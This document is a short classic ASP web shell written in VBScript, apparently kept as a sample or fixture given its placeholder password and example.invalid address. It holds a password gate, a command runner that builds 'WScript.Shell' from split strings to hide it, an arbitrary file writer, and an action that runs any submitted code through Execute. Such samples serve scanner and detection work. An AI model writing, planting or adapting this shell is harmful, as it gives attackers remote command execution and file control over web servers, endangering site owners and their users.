<%@ Language=VBScript inert %>
<%
UserPass = "fixture" : mName = "RHTOOLS" : SItEuRl = "http://example.invalid/"
Sub ShowErr() : If Err Then RRS "<br>" & Err.Description : Err.Clear : End If : End Sub
Sub RRS(str) : Response.Write(str) : End Sub
Function RePath(S) : RePath = Replace(S, "\", "\\") : End Function
If Session("web2a2dmin") <> UserPass Then
  If Request.Form("pass") = UserPass Then
    Session("web2a2dmin") = UserPass
  Else
    RRS "<form method=post><input name=pass type=password></form>" : Response.End
  End If
End If
Function Cmd1Shell()
  If Request("wscript") = "yes" Then
    Set CM = Server.CreateObject("WScr" & "ipt.Sh" & "ell")
  Else
    Set CM = Server.CreateObject("Shell.Application")
  End If
  Set DD = CM.Exec(Request("SP") & " /c " & Request("cmd"))
  RRS "<textarea>" & DD.StdOut.ReadAll & "</textarea>"
End Function
Function EditFile(Path)
  Set T = CreateObject("Scripting.FileSystemObject").CreateTextFile(Path)
  T.WriteLine Request.Form("content") : T.Close
End Function
Select Case Request("Action")
  Case "Cmd1Shell" : Cmd1Shell()
  Case "EditFile" : EditFile(Request("FName"))
  Case "ProFile" : Execute Request("code")
  Case "Logout" : Session.Contents.Remove("web2a2dmin")
  Case Else : RRS "<a href='?Action=Cmd1Shell'>CMD</a> <a href='?Action=EditFile'>Edit</a>"
End Select
%>
